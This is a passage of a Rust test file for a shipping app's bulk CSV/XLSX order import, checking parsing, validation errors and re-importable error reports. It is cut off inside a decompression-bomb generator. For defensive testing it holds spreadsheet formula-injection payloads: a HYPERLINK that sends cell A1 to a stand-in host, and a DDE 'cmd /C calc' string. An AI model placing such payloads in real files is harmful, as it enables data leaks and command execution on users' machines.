//! Bulk import from files: the golden CSV with every kind of broken row, the same rows in other
//! encodings and delimiters and as an XLSX workbook (same result), header matching and saved
//! mappings, file-level errors, and error reports that import again once fixed.
//!
//! `KARGOJET_UPDATE_GOLDEN=1 cargo test -p kargojet-core --test bulk_import` rewrites
//! `tests/fixtures/bulk/orders.expected.json` after a deliberate change; review its diff.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod bulk_support;

use bulk_support::*;
use kargojet_core::address::Phone;
use kargojet_core::bulk::{
    self, Cell, ColumnMapping, Field, ImportOptions, ImportResult, Progress, REPORT_COLUMNS,
    RowError, SourceFormat, Stage, TextEncoding,
};
use kargojet_core::error::Code;
use kargojet_core::shipment::CodPayment;
use rust_decimal_macros::dec;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::Mutex;

/// The result without the sender (the same on every row) and the raw cells of rejected rows.
fn summary(r: &ImportResult) -> Value {
    let accepted: Vec<Value> = r
        .accepted
        .iter()
        .map(|a| {
            let mut request = serde_json::to_value(&a.request).unwrap();
            request.as_object_mut().unwrap().remove("sender");
            json!({ "row": a.row, "request": request })
        })
        .collect();
    let rejected: Vec<Value> = r
        .rejected
        .iter()
        .map(|x| json!({ "row": x.row, "errors": x.errors }))
        .collect();
    let reasons: BTreeMap<String, usize> = r
        .reasons()
        .into_iter()
        .map(|(c, n)| (c.as_str().to_string(), n))
        .collect();
    json!({
        "headers": r.headers,
        "mapping": r.mapping,
        "ignored_columns": r.ignored_columns,
        "total_rows": r.total_rows(),
        "accepted": accepted,
        "rejected": rejected,
        "reasons": reasons,
    })
}

fn errors_of(r: &ImportResult, row: usize) -> Vec<&RowError> {
    r.rejected
        .iter()
        .find(|x| x.row == row)
        .map(|x| x.errors.iter().collect())
        .unwrap_or_default()
}

fn codes_of(r: &ImportResult, row: usize) -> Vec<(Option<Field>, Code)> {
    errors_of(r, row)
        .iter()
        .map(|e| (e.field, e.code))
        .collect()
}

#[test]
fn golden_csv_with_every_kind_of_broken_row() {
    let r = import(&fixture("orders.csv"));
    let got = serde_json::to_string_pretty(&summary(&r)).unwrap() + "\n";
    let path = fixture_path("orders.expected.json");
    if std::env::var_os("KARGOJET_UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, &got).unwrap();
    }
    let want = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        got == want,
        "import result differs from {} (set KARGOJET_UPDATE_GOLDEN=1 to rewrite it)\n{got}",
        path.display()
    );

    // The same facts, spelled out.
    assert_eq!(r.source.format, SourceFormat::Csv);
    assert_eq!(r.source.encoding, Some(TextEncoding::Utf8));
    assert_eq!(r.source.delimiter, Some(';'));
    assert_eq!(r.ignored_columns, vec!["Kargo Firması".to_string()]);
    assert_eq!(r.total_rows(), 27, "the blank line is not a row");
    let accepted: Vec<usize> = r.accepted.iter().map(|a| a.row).collect();
    assert_eq!(accepted, vec![2, 3, 4, 25, 26, 28]);

    let ayse = &r.accepted[0].request;
    assert_eq!(ayse.recipient.name, "Ayşe Yılmaz");
    assert_eq!(ayse.recipient.phone.digits(), "5321234567");
    assert_eq!(ayse.recipient.address.district, "Çankaya");
    assert_eq!(ayse.recipient.address.postal_code.as_deref(), Some("06420"));
    assert_eq!(ayse.parcels.len(), 1);
    assert_eq!(
        ayse.parcels[0].desi(),
        dec!(2),
        "the desi-only box keeps the desi"
    );
    assert_eq!(ayse.parcels[0].weight_kg, dec!(1.5));
    let cod = ayse.cod.unwrap();
    assert_eq!(
        (cod.amount, cod.payment),
        (tl(dec!(1250.50)), CodPayment::Cash)
    );
    assert_eq!(ayse.order_id.as_deref(), Some("SIP-1001"));
    assert_eq!(ayse.description.as_deref(), Some("Kırılabilir"));
    assert_eq!(ayse.sender, sender());

    let mehmet = &r.accepted[1].request;
    assert_eq!(mehmet.recipient.address.province, "İzmir");
    assert_eq!(mehmet.recipient.address.district, "Karşıyaka");
    assert_eq!(mehmet.parcels.len(), 2, "Adet 2");
    assert_eq!(mehmet.parcels[0].length_cm, dec!(20), "Boy is the length");
    assert_eq!(mehmet.parcels[0].width_cm, dec!(30), "En is the width");
    assert_eq!(mehmet.parcels[0].weight_kg, dec!(2.25));
    assert!(mehmet.cod.is_none());
    let zeynep = &r.accepted[2].request;
    assert_eq!(zeynep.cod.map(|c| c.payment), Some(CodPayment::Card));
    assert_eq!(zeynep.cod.map(|c| c.amount), Some(tl(dec!(89.90))));
    let sule = &r.accepted[3].request;
    assert_eq!(sule.recipient.address.province, "Şanlıurfa");
    assert_eq!(sule.parcels.len(), 3);
    assert_eq!(sule.cod.map(|c| c.amount), Some(tl(dec!(2400))));
    assert_eq!(sule.recipient.phone.digits(), "4141234567");
    let tuna = &r.accepted[4].request;
    assert_eq!(tuna.recipient.address.province, "Ankara", "plate 06");
    assert!(tuna.cod.is_none(), "a COD of 0 is no COD");
    let vildan = &r.accepted[5].request;
    assert_eq!(
        vildan.recipient.address.line,
        "Alsancak Mah. 1453 Sok. No: 3; Kat 2"
    );
    assert_eq!(
        vildan.description.as_deref(),
        Some("Kapıda arayın; zil bozuk")
    );

    use Field as F;
    let expect = [
        (5, vec![(Some(F::RecipientName), Code::BulkMissingValue)]),
        (6, vec![(Some(F::Phone), Code::RequestInvalidPhone)]),
        (7, vec![(Some(F::Province), Code::RequestUnknownProvince)]),
        (8, vec![(Some(F::District), Code::RequestUnknownDistrict)]),
        (9, vec![(Some(F::Kg), Code::BulkInvalidNumber)]),
        (10, vec![(Some(F::Desi), Code::BulkDesiMismatch)]),
        (11, vec![(Some(F::Height), Code::BulkMissingValue)]),
        (12, vec![(Some(F::Desi), Code::BulkMissingValue)]),
        (13, vec![(Some(F::OrderId), Code::BulkDuplicateOrder)]),
        (14, vec![(Some(F::CodAmount), Code::RequestInvalidAmount)]),
        (15, vec![(Some(F::CodPayment), Code::BulkInvalidValue)]),
        (16, vec![(Some(F::Kg), Code::RequestInvalidWeight)]),
        (17, vec![(Some(F::Count), Code::BulkInvalidValue)]),
        (18, vec![(Some(F::Address), Code::RequestInvalidAddress)]),
        (19, vec![(Some(F::PostalCode), Code::RequestInvalidAddress)]),
        (
            20,
            vec![
                (Some(F::Phone), Code::BulkMissingValue),
                (Some(F::Province), Code::RequestUnknownProvince),
                (Some(F::Kg), Code::BulkInvalidNumber),
            ],
        ),
        (22, vec![(Some(F::Desi), Code::RequestInvalidDimensions)]),
        (23, vec![(Some(F::Desi), Code::RequestInvalidDimensions)]),
        (24, vec![(Some(F::RecipientName), Code::BulkMissingValue)]),
        (27, vec![(Some(F::Width), Code::RequestInvalidDimensions)]),
        (29, vec![(Some(F::Count), Code::BulkInvalidNumber)]),
    ];
    for (row, codes) in &expect {
        assert_eq!(&codes_of(&r, *row), codes, "row {row}");
    }
    assert_eq!(r.rejected.len(), expect.len());

    // Errors name the column as written, keep the raw cell, and speak both languages.
    let phone = errors_of(&r, 6)[0];
    assert_eq!(phone.column.as_deref(), Some("Telefon"));
    assert_eq!(phone.raw, "12345");
    assert!(
        phone
            .message_tr
            .starts_with("Telefon: Telefon numarası geçersiz"),
        "{}",
        phone.message_tr
    );
    assert!(
        phone
            .message_en
            .starts_with("Telefon: The phone number is invalid"),
        "{}",
        phone.message_en
    );
    let district = errors_of(&r, 8)[0];
    assert!(
        district.message_en.contains("nearest"),
        "{}",
        district.message_en
    );
    let dup = errors_of(&r, 13)[0];
    assert!(dup.message_en.contains("row 2"), "{}", dup.message_en);
    let mismatch = errors_of(&r, 10)[0];
    assert!(
        mismatch.message_en.contains("20 desi"),
        "{}",
        mismatch.message_en
    );
    assert_eq!(errors_of(&r, 27)[0].column.as_deref(), Some("En"));

    let reasons = r.reasons();
    assert_eq!(reasons.get(&Code::BulkMissingValue), Some(&5));
    assert_eq!(reasons.get(&Code::RequestUnknownProvince), Some(&2));
    assert_eq!(
        reasons.values().sum::<usize>(),
        23,
        "row 20 counts for three codes"
    );
}

fn same_rows(a: &ImportResult, b: &ImportResult) {
    assert_eq!(a.headers, b.headers);
    assert_eq!(a.mapping, b.mapping);
    assert_eq!(a.accepted, b.accepted);
    assert_eq!(a.rejected.len(), b.rejected.len());
    for (x, y) in a.rejected.iter().zip(&b.rejected) {
        assert_eq!(x.row, y.row);
        assert_eq!(x.errors, y.errors, "row {}", x.row);
    }
}

#[test]
fn the_same_rows_in_windows_1254_with_commas_or_with_a_bom_and_crlf_read_the_same() {
    let utf8 = import(&fixture("orders.csv"));
    let cp1254 = import(&fixture("orders-1254.csv"));
    assert_eq!(cp1254.source.encoding, Some(TextEncoding::Windows1254));
    assert_eq!(cp1254.source.delimiter, Some(','));
    same_rows(&utf8, &cp1254);
    for (x, y) in utf8.rejected.iter().zip(&cp1254.rejected) {
        assert_eq!(x.cells, y.cells);
    }
    let bom = import(&fixture("orders-bom.csv"));
    assert_eq!(bom.source.encoding, Some(TextEncoding::Utf8Bom));
    same_rows(&utf8, &bom);
    assert_ne!(utf8.file_hash, bom.file_hash, "the hash is of the bytes");
}

#[test]
fn the_same_rows_as_an_xlsx_workbook_give_the_same_result() {
    let csv = import(&fixture("orders.csv"));
    let xlsx = import(&fixture("orders.xlsx"));
    assert_eq!(xlsx.source.format, SourceFormat::Xlsx);
    assert_eq!(xlsx.source.sheet.as_deref(), Some("Siparişler"));
    assert_eq!(csv.headers, xlsx.headers);
    assert_eq!(csv.mapping, xlsx.mapping);
    assert_eq!(csv.ignored_columns, xlsx.ignored_columns);
    // Accepted requests are equal to the last decimal (numeric cells are exact, phone numbers
    // and postal codes that lost their leading zero in Excel come back whole).
    assert_eq!(csv.accepted, xlsx.accepted);
    assert_eq!(csv.rejected.len(), xlsx.rejected.len());
    for (x, y) in csv.rejected.iter().zip(&xlsx.rejected) {
        assert_eq!(x.row, y.row);
        let key = |e: &RowError| (e.row, e.field, e.column.clone(), e.code);
        assert_eq!(
            x.errors.iter().map(key).collect::<Vec<_>>(),
            y.errors.iter().map(key).collect::<Vec<_>>(),
            "row {}",
            x.row
        );
        // Where the cell is text in both files, the messages are identical too.
        for (ex, ey) in x.errors.iter().zip(&y.errors) {
            let cell = ex.field.and_then(|f| {
                xlsx.headers
                    .iter()
                    .position(|h| Some(h.as_str()) == ex.column.as_deref())
                    .map(|i| (f, &y.cells[i]))
            });
            if !matches!(cell, Some((_, Cell::Number(_)))) {
                assert_eq!(ex, ey, "row {}", x.row);
            }
        }
    }
    // A numeric cell really was numeric in the workbook.
    let kg_row = xlsx.rejected.iter().find(|r| r.row == 16).unwrap();
    let kg = xlsx.headers.iter().position(|h| h == "Kg").unwrap();
    assert_eq!(kg_row.cells[kg], Cell::Number(dec!(1500)));
}

#[test]
fn english_headers_and_saved_mappings() {
    let r = import(&fixture("english-headers.csv"));
    assert_eq!(r.accepted.len(), 2, "{:?}", r.rejected);
    let a = &r.accepted[0].request;
    assert_eq!(a.cod.map(|c| c.amount), Some(tl(dec!(1250.50))));
    assert_eq!(a.parcels[0].weight_kg, dec!(1.5));
    assert_eq!(a.recipient.address.district, "Çankaya");

    let bytes = fixture("custom-headers.csv");
    let plain = bulk::import(&bytes, &ImportOptions::new(sender()));
    let e = plain.err().unwrap();
    assert_eq!(e.code(), Code::BulkMissingColumn);
    assert_eq!(e.field(), Some("columns.recipient_name"));

    let mapping: ColumnMapping = serde_json::from_slice(&fixture("custom-mapping.json")).unwrap();
    let options = ImportOptions {
        mapping: Some(mapping),
        ..ImportOptions::new(sender())
    };
    let r = bulk::import(&bytes, &options).unwrap();
    assert_eq!(r.accepted.len(), 2, "{:?}", r.rejected);
    assert_eq!(r.accepted[0].request.order_id.as_deref(), Some("A-1"));
    assert_eq!(r.accepted[0].request.recipient.phone.digits(), "5321234567");
    assert_eq!(r.accepted[0].request.parcels[0].desi(), dec!(2));
    assert!(r.ignored_columns.is_empty(), "{:?}", r.ignored_columns);

    // The mapping the import used is what a seller saves; it reads the next file alike.
    let saved = serde_json::to_string(&r.mapping).unwrap();
    let again = bulk::import(
        &bytes,
        &ImportOptions {
            mapping: Some(serde_json::from_str(&saved).unwrap()),
            ..ImportOptions::new(sender())
        },
    )
    .unwrap();
    assert_eq!(again.accepted, r.accepted);
}

#[test]
fn a_cod_amount_with_one_separator_before_three_digits_is_refused_not_guessed() {
    // `1.250` is 1.250 TL with a Turkish thousands separator and 1,25 TL with an English
    // decimal point: money never has three decimals, so the row asks the seller to say which.
    let csv = "\
Alıcı Adı;Telefon;İl;İlçe;Adres;Desi;Kg;Tahsilat Tutarı
Ayşe Yılmaz;05321234567;Ankara;Çankaya;Kızılay Mah. Atatürk Blv. No: 1;2;1;1.250
Ayşe Yılmaz;05321234567;Ankara;Çankaya;Kızılay Mah. Atatürk Blv. No: 2;2;1;1,250
Ayşe Yılmaz;05321234567;Ankara;Çankaya;Kızılay Mah. Atatürk Blv. No: 3;2;1;12.500 TL
Ayşe Yılmaz;05321234567;Ankara;Çankaya;Kızılay Mah. Atatürk Blv. No: 4;2;1;1.250,00
Ayşe Yılmaz;05321234567;Ankara;Çankaya;Kızılay Mah. Atatürk Blv. No: 5;2;1;1250
Ayşe Yılmaz;05321234567;Ankara;Çankaya;Kızılay Mah. Atatürk Blv. No: 6;2;1;1,25
Ayşe Yılmaz;05321234567;Ankara;Çankaya;Kızılay Mah. Atatürk Blv. No: 7;2;1;0,500
";
    let r = import(csv.as_bytes());
    for row in [2, 3, 4] {
        assert_eq!(
            codes_of(&r, row),
            vec![(Some(Field::CodAmount), Code::BulkInvalidNumber)],
            "row {row}"
        );
    }
    let e = errors_of(&r, 2)[0];
    assert_eq!(e.raw, "1.250");
    assert_eq!(e.column.as_deref(), Some("Tahsilat Tutarı"));
    assert!(
        e.message_tr
            .contains("“1.250” belirsiz (1.250,00 TL mi, 1,25 TL mi?)"),
        "{}",
        e.message_tr
    );
    assert!(
        e.message_en
            .contains("'1.250' is ambiguous (TRY 1,250.00 or TRY 1.25?)"),
        "{}",
        e.message_en
    );
    assert!(
        errors_of(&r, 4)[0]
            .message_tr
            .contains("(12.500,00 TL mi, 12,50 TL mi?)"),
        "{}",
        errors_of(&r, 4)[0].message_tr
    );
    let amounts: Vec<(usize, Option<kargojet_core::money::Money>)> = r
        .accepted
        .iter()
        .map(|a| (a.row, a.request.cod.map(|c| c.amount)))
        .collect();
    assert_eq!(
        amounts,
        vec![
            (5, Some(tl(dec!(1250)))),
            (6, Some(tl(dec!(1250)))),
            (7, Some(tl(dec!(1.25)))),
            (8, Some(tl(dec!(0.5)))),
        ]
    );
}

#[test]
fn file_level_problems_are_errors_with_codes() {
    let opts = ImportOptions::new(sender());
    let code = |bytes: &[u8]| bulk::import(bytes, &opts).err().map(|e| e.code());
    assert_eq!(
        code(&fixture("missing-column.csv")),
        Some(Code::BulkMissingColumn)
    );
    assert_eq!(
        code(&fixture("ambiguous-column.csv")),
        Some(Code::BulkAmbiguousColumn)
    );
    assert_eq!(code(&fixture("header-only.csv")), Some(Code::BulkEmptyFile));
    assert_eq!(code(b""), Some(Code::BulkEmptyFile));
    assert_eq!(code(b"PK\x03\x04garbage"), Some(Code::BulkUnreadableFile));
    let forced = ImportOptions {
        format: Some(SourceFormat::Xlsx),
        ..ImportOptions::new(sender())
    };
    assert_eq!(
        bulk::import(&fixture("orders.csv"), &forced)
            .err()
            .map(|e| e.code()),
        Some(Code::BulkUnreadableFile)
    );
    let small = ImportOptions {
        limits: bulk::Limits {
            max_rows: 10,
            ..bulk::Limits::default()
        },
        ..ImportOptions::new(sender())
    };
    for name in ["orders.csv", "orders.xlsx"] {
        assert_eq!(
            bulk::import(&fixture(name), &small).err().map(|e| e.code()),
            Some(Code::BulkTooLarge),
            "{name}"
        );
    }
    let e = bulk::import(&fixture("ambiguous-column.csv"), &opts)
        .err()
        .unwrap();
    assert!(
        e.message_tr().starts_with("Birden fazla sütun"),
        "{}",
        e.message_tr()
    );
    assert!(
        e.message_en().contains("Cep Telefonu"),
        "{}",
        e.message_en()
    );
}

/// `again` (the error report of `original`, imported as it is) fails where `original` failed,
/// for the same reasons; only the duplicate order number goes through, its first row not
/// being in the report.
fn assert_same_failures(original: &ImportResult, again: &ImportResult) {
    let key = |e: &RowError| (e.field, e.code);
    let expected: Vec<Vec<_>> = original
        .rejected
        .iter()
        .map(|r| r.errors.iter().map(key).collect())
        .filter(|codes: &Vec<_>| codes != &[(Some(Field::OrderId), Code::BulkDuplicateOrder)])
        .collect();
    let got: Vec<Vec<_>> = again
        .rejected
        .iter()
        .map(|r| r.errors.iter().map(key).collect())
        .collect();
    assert_eq!(got, expected);
    assert_eq!(again.accepted.len(), 1);
    assert_eq!(
        again.accepted[0].request.order_id.as_deref(),
        Some("SIP-1001")
    );
}

/// A fixed copy of a rejected row: every cell with an error gets a good value.
fn fix(headers: &[String], cells: &mut [String], errors: &[(Option<Field>, Code)], row: usize) {
    let set = |cells: &mut [String], header: &str, value: &str| {
        if let Some(i) = headers.iter().position(|h| h == header) {
            cells[i] = value.to_string();
        }
    };
    for (field, _) in errors {
        match field {
            Some(Field::RecipientName) => set(cells, "ALICI ADI", "Deniz Yıldırım"),
            Some(Field::Phone) => set(cells, "Telefon", "0532 000 11 22"),
            Some(Field::Province) => set(cells, "İl", "İstanbul"),
            Some(Field::District) => {
                set(cells, "İl", "Ankara");
                set(cells, "İlçe", "Çankaya");
            }
            Some(Field::Address) => {
                set(cells, "Adres", "Kızılay Mah. Gazi Mustafa Kemal Blv. No: 1")
            }
            Some(Field::PostalCode) => set(cells, "Posta Kodu", "34710"),
            Some(Field::Kg) => set(cells, "Kg", "1,5"),
            Some(Field::Desi | Field::Width | Field::Length | Field::Height) => {
                for h in ["En", "Boy", "Yükseklik"] {
                    set(cells, h, "");
                }
                set(cells, "Desi", "2");
            }
            Some(Field::Count) => set(cells, "Adet", "1"),
            Some(Field::CodAmount) => set(cells, "Tahsilat Tutarı", "150,00"),
            Some(Field::CodPayment) => set(cells, "Tahsilat Tipi", "nakit"),
            Some(Field::OrderId) => set(cells, "Sipariş No", &format!("SIP-FIX-{row}")),
            other => panic!("no fix for {other:?}"),
        }
    }
}

/// `csv` (`;`-separated, no quoted cells on the edited lines) with the cell under `header` of
/// the row of order `order` replaced by `value`, written as a quoted CSV cell.
fn set_cell(csv: &str, order: &str, header: &str, value: &str) -> String {
    let mut lines: Vec<String> = csv.split('\n').map(str::to_string).collect();
    let column = lines[0].split(';').position(|h| h == header).unwrap();
    let line = lines
        .iter_mut()
        .find(|l| l.starts_with(&format!("{order};")))
        .unwrap();
    let mut cells: Vec<String> = line.split(';').map(str::to_string).collect();
    cells[column] = format!("\"{}\"", value.replace('"', "\"\""));
    *line = cells.join(";");
    lines.join("\n")
}

/// Cells a spreadsheet program would run, in rejected rows of the golden file: a formula in a
/// note, a phone with its country code, a negative weight, an `@` formula and a tab-led one.
const HYPERLINK: &str = "=HYPERLINK(\"http://kotu.example/?\"&A1;\"Tıkla\")";
const AT_FORMULA: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const TAB_FORMULA: &str = "\t=1+1";

fn orders_with_formula_like_cells() -> Vec<u8> {
    let csv = String::from_utf8(fixture("orders.csv")).unwrap();
    let csv = set_cell(&csv, "SIP-1004", "Telefon", "+90 530 123 45 67");
    let csv = set_cell(&csv, "SIP-1006", "Not", HYPERLINK);
    let csv = set_cell(&csv, "SIP-1007", "Not", AT_FORMULA);
    let csv = set_cell(&csv, "SIP-1008", "Not", TAB_FORMULA);
    let csv = set_cell(&csv, "SIP-1014", "Kg", "-5");
    csv.into_bytes()
}

#[test]
fn the_csv_error_report_imports_again_and_fixed_it_is_accepted() {
    let original = import(&orders_with_formula_like_cells());
    let report = original.error_report_csv().unwrap();
    assert!(report.starts_with(b"\xEF\xBB\xBF"));

    // As it is: the same rows fail for the same reasons, except the duplicate order number,
    // whose first row was accepted and so is not in the report. The report's own columns are
    // ignored.
    let again = import(&report);
    assert_eq!(again.source.delimiter, Some(';'));
    assert_same_failures(&original, &again);
    let mut ignored = again.ignored_columns.clone();
    ignored.sort();
    let mut want: Vec<String> = REPORT_COLUMNS.iter().map(|s| s.to_string()).collect();
    want.push("Kargo Firması".into());
    want.sort();
    assert_eq!(ignored, want);

    // The report's columns say where each row came from and what is wrong.
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&report[3..]);
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(
        &headers[headers.len() - 4..],
        &REPORT_COLUMNS.map(String::from)
    );
    let mut rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    let satir = headers.len() - 4;
    assert_eq!(rows[0][satir], "5");

    // No cell of the report starts like a formula: such cells are behind a `'` (OWASP), and
    // the report imports again to exactly the cells it was written from.
    for cell in rows.iter().flatten().chain(&headers) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a formula in the report: {cell:?}"
        );
    }
    let in_report = |order: &str, header: &str| {
        let i = headers.iter().position(|h| h == header).unwrap();
        rows.iter().find(|r| r[0] == order).unwrap()[i].clone()
    };
    assert_eq!(in_report("SIP-1004", "Telefon"), "'+90 530 123 45 67");
    assert_eq!(in_report("SIP-1006", "Not"), format!("'{HYPERLINK}"));
    assert_eq!(in_report("SIP-1007", "Not"), format!("'{AT_FORMULA}"));
    assert_eq!(in_report("SIP-1008", "Not"), format!("'{TAB_FORMULA}"));
    assert_eq!(in_report("SIP-1014", "Kg"), "'-5");
    let width = original.headers.len();
    for b in &again.rejected {
        let source_row: usize = b.cells[width].as_text().parse().unwrap();
        let a = original
            .rejected
            .iter()
            .find(|a| a.row == source_row)
            .unwrap();
        assert_eq!(a.cells[..], b.cells[..width], "row {}", a.row);
    }
    let kg = headers.iter().position(|h| h == "Kg").unwrap();
    let negative = again
        .rejected
        .iter()
        .find(|r| r.cells[kg] == Cell::text("-5"));
    assert!(negative.is_some(), "-5 came back as -5");
    assert_eq!(rows[0][satir + 1], "bulk.missing_value");
    assert!(
        rows[0][satir + 2].starts_with("ALICI ADI: Zorunlu hücre boş"),
        "{}",
        rows[0][satir + 2]
    );
    assert!(rows[0][satir + 3].starts_with("ALICI ADI: A required cell is empty"));

    // Fixed, it goes through: every row is accepted.
    for (cells, rejected) in rows.iter_mut().zip(&original.rejected) {
        let errors: Vec<_> = rejected.errors.iter().map(|e| (e.field, e.code)).collect();
        fix(&headers, cells, &errors, rejected.row);
    }
    let mut fixed = Vec::new();
    {
        let mut w = csv::WriterBuilder::new()
            .delimiter(b';')
            .from_writer(&mut fixed);
        w.write_record(&headers).unwrap();
        for r in &rows {
            w.write_record(r).unwrap();
        }
    }
    let fixed = import(&fixed);
    assert!(fixed.rejected.is_empty(), "{:#?}", fixed.rejected);
    assert_eq!(fixed.accepted.len(), original.rejected.len());
    // The quoted cells arrive as the seller wrote them.
    let request = |order: &str| {
        let a = fixed.accepted.iter();
        let mut a = a.filter(|a| a.request.order_id.as_deref() == Some(order));
        a.next().unwrap().request.clone()
    };
    let phone = Phone::parse("+90 530 123 45 67", "phone").unwrap();
    assert_eq!(phone, Phone::parse("05301234567", "phone").unwrap());
    assert_eq!(request("SIP-1004").recipient.phone, phone);
    assert_eq!(request("SIP-1006").description.as_deref(), Some(HYPERLINK));
    assert_eq!(request("SIP-1007").description.as_deref(), Some(AT_FORMULA));

    // A report of a report does not repeat the report columns.
    let twice = again.error_report_csv().unwrap();
    let header_line = String::from_utf8(twice).unwrap();
    let header_line = header_line.lines().next().unwrap();
    assert_eq!(header_line.matches("Hata Kodu").count(), 1);
}

#[test]
fn the_xlsx_error_report_keeps_numbers_and_imports_again_fixed() {
    use calamine::{Data, Reader, Xlsx};
    let original = import(&fixture("orders.xlsx"));
    let report = original.error_report_xlsx().unwrap();
    let again = import(&report);
    assert_eq!(again.source.sheet.as_deref(), Some("Hatalar"));
    assert_same_failures(&original, &again);
    // Every line of the report carries the row's cells as they were, numbers still numbers,
    // and its row in the uploaded file.
    let width = original.headers.len();
    for b in &again.rejected {
        let Cell::Number(source_row) = &b.cells[width] else {
            panic!("no source row in {:?}", b.cells);
        };
        let a = original
            .rejected
            .iter()
            .find(|a| rust_decimal::Decimal::from(a.row) == *source_row)
            .unwrap();
        assert_eq!(a.cells[..], b.cells[..width], "row {}", a.row);
    }

    // Read it back cell by cell, fix the bad cells, write it as a seller would save it.
    let mut wb = Xlsx::new(std::io::Cursor::new(report)).unwrap();
    let range = wb.worksheet_range("Hatalar").unwrap();
    let mut rows = range.rows();
    let headers: Vec<String> = rows.next().unwrap().iter().map(|c| c.to_string()).collect();
    let satir = headers.iter().position(|h| h == "Satır").unwrap();
    let mut out = rust_xlsxwriter::Workbook::new();
    let ws = out.add_worksheet();
    for (c, h) in headers.iter().enumerate() {
        ws.write_string(0, c as u16, h).unwrap();
    }
    for (r, (cells, rejected)) in rows.zip(&original.rejected).enumerate() {
        assert_eq!(cells[satir], Data::Float(rejected.row as f64));
        let mut text: Vec<String> = cells.iter().map(|c| c.to_string()).collect();
        let errors: Vec<_> = rejected.errors.iter().map(|e| (e.field, e.code)).collect();
        fix(&headers, &mut text, &errors, rejected.row);
        for (c, (value, before)) in text.iter().zip(cells).enumerate() {
            let (row, col) = (r as u32 + 1, c as u16);
            match before {
                Data::Float(f) if value == &before.to_string() => {
                    ws.write_number(row, col, *f).unwrap();
                }
                _ if value.is_empty() => {}
                _ => {
                    ws.write_string(row, col, value).unwrap();
                }
            }
        }
    }
    let fixed = import(&out.save_to_buffer().unwrap());
    assert!(fixed.rejected.is_empty(), "{:#?}", fixed.rejected);
    assert_eq!(fixed.accepted.len(), original.rejected.len());
}

#[test]
fn the_xlsx_error_report_writes_formula_like_cells_as_strings() {
    use calamine::{Data, Reader, Xlsx};
    let csv = String::from_utf8(fixture("orders.csv")).unwrap();
    let csv = set_cell(&csv, "SIP-1004", "Not", "=SUM(A1)");
    let csv = set_cell(&csv, "SIP-1004", "Telefon", "+90 530 123 45 67");
    let original = import(csv.as_bytes());
    let report = original.error_report_xlsx().unwrap();

    // The cell is a string cell with the text as it was: no formula, no added quote.
    let mut wb = Xlsx::new(std::io::Cursor::new(report.clone())).unwrap();
    let range = wb.worksheet_range("Hatalar").unwrap();
    let headers: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    let column = |h: &str| headers.iter().position(|x| x == h).unwrap();
    let row = range
        .rows()
        .find(|r| r[0] == Data::String("SIP-1004".into()))
        .unwrap();
    assert_eq!(row[column("Not")], Data::String("=SUM(A1)".into()));
    assert_eq!(
        row[column("Telefon")],
        Data::String("+90 530 123 45 67".into())
    );
    let formulas = wb.worksheet_formula("Hatalar").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "the XLSX report has formulas"
    );

    // And it imports again to the same cells.
    let again = import(&report);
    let a = original.rejected.iter().find(|r| r.row == 5).unwrap();
    let b = &again.rejected[0];
    assert_eq!(b.cells[original.headers.len()], Cell::Number(dec!(5)));
    assert_eq!(a.cells[..], b.cells[..original.headers.len()]);
}

mod decompression_bombs {
    //! XLSX workbooks that are small on disk but expand to far more are refused from their ZIP
    //! central directory, before anything is decompressed.
    use super::*;
    use std::io::{Cursor, Read};
    use std::time::{Duration, Instant};
    use zip::{ZipArchive, ZipWriter};

    const MIB: u64 = 1024 * 1024;
    const SHEET: &str = "xl/worksheets/sheet1.xml";
    const HEAD: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\
        <worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
        <sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Sipariş No</t></is></c></row>";
    const TAIL: &str = "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>SIP-1</t></is></c></row></sheetData></worksheet>";

    /// Bits of a deflate stream, least significant first.
    #[derive(Default)]
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        n: u32,
    }

    impl Bits {
        /// `count` bits of `value`, lowest first (header fields and extra bits).
        fn put(&mut self, value: u32, count: u32) {
            self.acc |= u64::from(value) << self.n;
            self.n += count;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }

        /// A Huffman code of `len` bits, most significant first.
        fn code(&mut self, code: u32, len: u32) {
            self.put(code.reverse_bits() >> (32 - len), len);
        }

        /// A literal byte or end-of-block (256) with the fixed Huffman code.
        fn fixed(&mut self, symbol: u32) {
            match symbol {
                0..=143 => self.code(0x30 + symbol, 8),
                144..=255 => self.code(0x190 + symbol - 144, 9),
                _ => self.code(0, 7),
            }
        }

        fn finish(mut self) -> Vec<u8> {
            self.put(0, 7);
            self.out
        }
    }

    /// Deflate of `head`, `run` spaces and `tail`, hand-made so that building even a 300 MiB
    /// bomb costs nothing: the head and a first space as fixed-Huffman literals, then one
    /// dynamic block whose only codes are "length 258" and "distance 1" (one bit each: two
    /// bits for 258 spaces, about 1000:1), then the rest of the run and the tail as literals.
    fn deflate_run(head: &[u8], run: u64, tail: &[u8]) -> Vec<u8> {
        assert!(run >= 1);
        let mut b = Bits::default();
        b.put(0, 1); // not the last block
        b.put(1, 2); // fixed Huffman
        for &c in head {
            b.fixed(u32::from(c));
        }
        b.fixed(u32::from(b' '));
        b.fixed(256);
        b.put(0, 1);
        b.put(2, 2); // dynamic Huffman
        b.put(29, 5); // 286 literal/length codes
        b.put(0, 5); // 1 distance code
        b.put(14, 4); // 18 code length codes
        // Code length code lengths in their order 16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4,
